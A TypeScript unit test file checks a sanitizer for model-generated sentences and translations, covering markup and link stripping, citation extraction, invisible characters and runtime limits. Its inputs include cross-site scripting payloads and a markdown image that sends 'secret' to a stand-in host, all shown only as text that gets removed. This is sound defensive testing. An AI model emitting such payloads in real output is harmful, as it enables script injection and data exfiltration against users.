import * as fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { cleanRendering, cleanSentence } from '../../../../src/adapters/http/chat/clean.ts';

describe('cleanSentence', () => {
  test.each([
    ['A plain sentence stays: $2.5 billion, 95% (up from 90%), “so he said”.'],
    ['Booking.com and Yahoo! Inc. grew by 3–4 points; see-saw trading at 10:30 p.m.'],
    ['The bill (article 12) says: “In [2015] we began.”'],
    ['Temperatures of −4 °C < 0 °C were measured at a 1/3 of the sites.'],
    ['The S&P 500 fell 2.1% and the C++ team left.'],
    ['Here is where the treaty was signed, the minister said.'],
  ])('%s', (text) => {
    expect(cleanSentence(text, 12)).toEqual({ text, citations: [], removed: [] });
  });

  test.each([
    ['Cisco **invests** `$1`.', 'Cisco invests $1.', 'markup'],
    ['- Cisco invests.', 'Cisco invests.', 'markup'],
    ['### Cisco invests', 'Cisco invests', 'markup'],
    ['<b>Cisco</b> invests.<script>alert(1)</script>', 'Cisco invests.', 'markup'],
    ['&lt;img src=x onerror=alert(1)&gt;Cisco invests.', 'Cisco invests.', 'markup'],
    ['Cisco ![x](https://evil.test/p?d=secret) invests.', 'Cisco invests.', 'markup'],
    ['[Cisco](https://evil.test) invests.', 'Cisco invests.', 'a link'],
    ['Cisco invests (see https://evil.test/a?b=c).', 'Cisco invests (see).', 'an address'],
    ['Go to www.evil.test now.', 'Go to now.', 'an address'],
    ['Run javascript:alert(1) now.', 'Run now.', 'an address'],
    ['Read evil.test/login today.', 'Read today.', 'an address'],
    ['Here is the summary of the article: Cisco invests.', 'Cisco invests.', 'talk about the task'],
    ['Sure! Here are your claims: Cisco invests.', 'Cisco invests.', 'talk about the task'],
    ['Claim 3: Cisco invests.', 'Cisco invests.', 'a label'],
    ['Cisco\u202E invests\u200B.', 'Cisco invests.', 'an invisible character'],
    ['Cisco \u001B[31minvests.', 'Cisco [31minvests.', 'an invisible character'],
  ])('%s → %s', (raw, text, removed) => {
    const cleaned = cleanSentence(raw, 12);
    expect(cleaned.text).toBe(text);
    expect(cleaned.removed).toContain(removed);
  });

  test.each([
    ['Cisco invests [3].', 'Cisco invests.', [3]],
    ['Cisco invests. [3, 4]', 'Cisco invests.', [3, 4]],
    ['Cisco invests (segments 2–4).', 'Cisco invests.', [2, 4]],
    ['Cisco invests【5】.', 'Cisco invests.', [5]],
  ])('citations become numbers: %s', (raw, text, citations) => {
    expect(cleanSentence(raw, 12)).toMatchObject({ text, citations });
  });

  test.each(['', '   ', '…', '**', '<p></p>', 'https://evil.test/only', 'x'.repeat(2001)])(
    'nothing is left of %j',
    (raw) => {
      expect(cleanSentence(raw, 12).text).toBe('');
    },
  );

  test('any text gives one line without tags, addresses or controls, and cleaning twice changes nothing', () => {
    const parts = fc.constantFrom(
      '<',
      '>',
      '<a ',
      '&lt;',
      '[',
      '](',
      ')',
      '![',
      'https://x.test',
      '**',
      '[3]',
      '\u0000',
      '\n',
      'Word ',
      '{',
      '"',
    );
    fc.assert(
      fc.property(fc.array(fc.oneof(parts, fc.string({ maxLength: 8 })), { maxLength: 20 }), (pieces) => {
        const { text } = cleanSentence(pieces.join(''), 12);
        // oxlint-disable-next-line no-control-regex
        expect(text).not.toMatch(/[\u0000-\u001F]|https?:\/\/|<script/);
      }),
      { numRuns: 500 },
    );
  });

  test.each(['<', '[', '![', '](', '**', 'a.', '[3', 'http://', 'www.', '&lt;', '(segments 3, '])(
    'the longest text of %j is cleaned at once',
    (unit) => {
      const startedAt = performance.now();
      cleanSentence(unit.repeat(2000).slice(0, 2000), 12);
      expect(performance.now() - startedAt).toBeLessThan(200);
    },
  );
});

describe('cleanRendering', () => {
  test.each([
    ['Une phrase.', 'A sentence. <b>bold</b>', 'A sentence. bold'],
    ['Le prix <b>monte</b>.', 'The price ‹b>rises‹/b>.', 'The price <b>rises</b>.'],
    ['Voir https://a.test/b.', 'See https://a.test/b.', 'See https://a.test/b.'],
    ['Voir ici.', 'See https://a.test/b here.', 'See here.'],
    ['Résumé : rien.', 'Summary: nothing.', 'Summary: nothing.'],
    ['- Un tiret', '- A dash', '- A dash'],
  ])('%s: %s → %s', (source, raw, text) => {
    expect(cleanRendering(raw, source).text).toBe(text);
  });

  test('a megabyte is cleaned in linear time', () => {
    const startedAt = performance.now();
    for (const unit of ['<', '[', 'a.', 'www.x ', '![a', '<script>', 'http:']) {
      cleanRendering(unit.repeat(200_000 / unit.length), 'Une phrase.');
    }
    expect(performance.now() - startedAt).toBeLessThan(5000);
  });
});
